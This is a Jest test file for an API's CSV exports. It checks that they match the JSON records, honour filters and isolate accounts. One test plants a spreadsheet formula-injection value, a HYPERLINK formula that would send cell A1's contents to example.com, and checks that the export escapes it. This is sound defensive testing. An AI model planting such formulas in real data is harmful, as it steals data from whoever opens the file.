/** Every list and every report of the API as CSV: the same records as in JSON, all of them, and those of nobody else. */
import { afterAll, beforeAll, expect, it } from '@jest/globals';
import {
  createBuyer,
  csvColumns,
  csvForm,
  csvHeader,
  fixtures,
  listBuyers,
  listedRecord,
  listOrders,
  listRequestLog,
  operations,
  type OwnedOperation,
  parametersOfPages,
  scopeNames,
  versioning,
  versions,
} from '@millwright/contracts';
import { type ApiAnswer, type ApiClient, eventually, Product, Records, someOfToday } from '@millwright/testing';

type Row = Readonly<Record<string, string>>;
type Resource = Readonly<Record<string, unknown>>;

let ours: ApiClient;
let theirs: ApiClient;
let records: Records;

beforeAll(async () => {
  const product = Product.ofTests();
  const clientOf = async (name: string): Promise<ApiClient> => {
    const account = await product.createAccount(name);
    await product.liftLimits(account, 'test');
    return product.client('test', await product.createKey(account, 'test', scopeNames));
  };
  [ours, theirs] = await Promise.all([clientOf('Exports'), clientOf('Has nothing')]);
  records = new Records(product, ours);
  for (const { make } of fixtures) await records.makeToRead(make);
  await records.upload();
}, 60_000);

afterAll(async () => {
  await Promise.all([ours?.close(), theirs?.close()]);
});

const lists = operations.filter((operation) => listedRecord(operation) !== undefined);

const reports = operations.filter(({ tables }) => tables !== undefined);

const askForCsv = (client: ApiClient, path: string): Promise<ApiAnswer> =>
  client.send('GET', path, undefined, { accept: 'text/csv' });

/** The records of all pages, two at a time; where the calls themselves are the records, with few calls. */
async function readJson(path: string): Promise<Resource[]> {
  const limit = path.startsWith(listRequestLog.path) ? 100 : 2;
  const found: Resource[] = [];
  for (let cursor: string | null = ''; cursor !== null;) {
    const page = `${path.includes('?') ? '&' : '?'}limit=${limit}${cursor === '' ? '' : `&cursor=${cursor}`}`;
    const { body } = await ours.send('GET', path + page);
    found.push(...(body.data as Resource[]));
    cursor = body.next_cursor as string | null;
  }
  return found;
}

async function readCsv(client: ApiClient, path: string): Promise<{ header: string; rows: Row[] }> {
  const { status, headers, body } = await askForCsv(client, path);
  expect([path, status, headers['content-type']]).toEqual([path, 200, 'text/csv; charset=utf-8; header=present']);
  const text = Buffer.from(body as Uint8Array).toString();
  const [names, ...lines] = parse(text);
  expect(lines.every((line) => line.length === names!.length)).toBe(true);
  const rows = lines.map((line) => Object.fromEntries(names!.map((name, index) => [name, line[index]!])));
  return { header: text.slice(0, text.indexOf('\r\n') + 2), rows };
}

/** Reads RFC 4180, without what this product writes it by. */
function parse(text: string): string[][] {
  const lines: string[][] = [];
  let line: string[] = [];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    line.push(quoted?.replaceAll('""', '"') ?? plain!);
    if (end === ',') continue;
    lines.push(line);
    line = [];
  }
  return lines;
}

/** What the CSV should say of a record in a column. */
function expected(record: Resource, column: string): string {
  const value = column
    .split('.')
    .reduce<unknown>((at, name) => (at as Record<string, unknown> | null | undefined)?.[name], record);
  if (value === undefined || value === null) return '';
  if (typeof value !== 'string') return JSON.stringify(value);
  return /^[=+\-@\t\r]/.test(value) && !column.endsWith('.amount') ? `'${value}` : value;
}

/** The names of the values of a record, down to those that a CSV has as JSON. */
function namesIn(value: unknown, columns: ReadonlySet<string>, at: readonly string[] = []): string[] {
  const name = at.join('.');
  if (columns.has(name) || typeof value !== 'object' || value === null) return value === null ? [] : [name];
  return Object.entries(value).flatMap(([step, inner]) => namesIn(inner, columns, [...at, step]));
}

/** Links to files are signed anew for each answer. */
function withoutLinks<T>(value: T): T {
  const text = JSON.stringify(value)
    .replaceAll(/expires=\d+&signature=[\w-]+/g, 'signed')
    .replaceAll(/(expires_at\\?":\\?")[^"\\]*/g, '$1');
  return JSON.parse(text) as T;
}

/** The parameters without which the list is refused, as its first example has them. */
function neededOf(operation: OwnedOperation): string {
  const query = Object.entries(records.queryOf(operation.examples[0]!)).filter(([name]) => isNeeded(operation, name));
  return query.length === 0 ? '' : `?${new URLSearchParams(query).toString()}`;
}

function isNeeded({ query }: OwnedOperation, name: string): boolean {
  return query?.shape[name]?.safeParse(undefined).success === false;
}

function withQuery(path: string, search: URLSearchParams): string {
  return `${path}${path.includes('?') ? '&' : '?'}${search.toString()}`;
}

/** A list changes while it is read where calls themselves are its records. */
async function isTheSame(path: string, operation: OwnedOperation): Promise<Resource[]> {
  return eventually(async () => {
    const before = withoutLinks(await readJson(path));
    const { header, rows } = await readCsv(ours, path);
    expect(withoutLinks(await readJson(path))).toEqual(before);
    expect(header).toBe(csvHeader(csvColumns(listedRecord(operation)!)));
    const columns = header.trim().split(',');
    expect(withoutLinks(rows)).toEqual(
      before.map((record) => Object.fromEntries(columns.map((column) => [column, expected(record, column)]))),
    );
    const names = new Set(columns);
    expect(before.flatMap((record) => namesIn(record, names)).filter((name) => !names.has(name))).toEqual([]);
    return before;
  });
}

it.each(someOfToday(lists, 2).map((operation) => [operation.id, operation] as const))(
  '%s has the records of all its pages',
  async (_, operation) => {
    const path = (await records.readPathFor(operation)) + neededOf(operation);
    // What a record brings about may come a moment later.
    const listed = await eventually(async () => {
      const found = await isTheSame(path, operation);
      expect(found.length).toBeGreaterThan(0);
      return found;
    });
    for (const { query = {} } of operation.examples) {
      const filters = Object.entries(query).filter(
        ([name]) => !parametersOfPages.includes(name) && !isNeeded(operation, name),
      );
      if (filters.length === 0) continue;
      const search = new URLSearchParams(
        filters.map(([name, value]): [string, string] => [name, records.withOwnIds(value)]),
      );
      await isTheSame(withQuery(path, search), operation);
    }
    for (const name of parametersOfPages.filter((each) => each in (operation.query?.shape ?? {}))) {
      expect((await askForCsv(ours, withQuery(path, new URLSearchParams({ [name]: '1' })))).status).toBe(400);
    }
    if (operation.path.includes('{')) {
      expect((await askForCsv(theirs, path)).status).toBe(404);
      return;
    }
    const ids = new Set(listed.map(({ id }) => id));
    const { rows } = await readCsv(theirs, path);
    expect(rows.filter(({ id }) => id !== undefined && ids.has(id))).toEqual([]);
  },
  60_000,
);

it.each(reports.map((operation) => [operation.id, operation] as const))(
  '%s has the rows of all its tables',
  async (_, operation) => {
    for (const version of versions) expect(versioning.touches(operation, version)).toBe(false);
    const path = operation.path + neededOf(operation);
    const { header, rows } = await readCsv(ours, path);
    const { columns, rowsIn } = csvForm(operation)!;
    expect(header).toBe(csvHeader(columns));
    const { body } = await ours.send('GET', path);
    const names = columns.map(({ path: steps }) => steps.join('.'));
    const found = rowsIn!(body as Parameters<NonNullable<typeof rowsIn>>[0]) as Resource[];
    expect(found.length).toBeGreaterThan(0);
    expect(rows).toEqual(found.map((row) => Object.fromEntries(names.map((name) => [name, expected(row, name)]))));
    expect((await askForCsv(ours, withQuery(path, new URLSearchParams({ limit: '1' })))).status).toBe(400);
  },
);

it('a filter leaves out the others', async () => {
  const { rows } = await readCsv(ours, `${listOrders.path}?status=draft`);
  const all = await readCsv(ours, listOrders.path);
  expect(rows).toEqual(all.rows.filter(({ status }) => status === 'draft'));
  expect(rows.length).toBeLessThan(all.rows.length);
});

it('what somebody has entered is no formula', async () => {
  const name = '=HYPERLINK("https://example.com?"&A1,"Pay, here")';
  const { id } = await ours.made(createBuyer, { body: { name, contact: { phone: '+919845012345' } } });
  const { rows } = await readCsv(ours, listBuyers.path);
  const row = rows.find((each) => each['id'] === id)!;
  expect([row['name'], row['contact.phone']]).toEqual([`'${name}`, "'+919845012345"]);
});
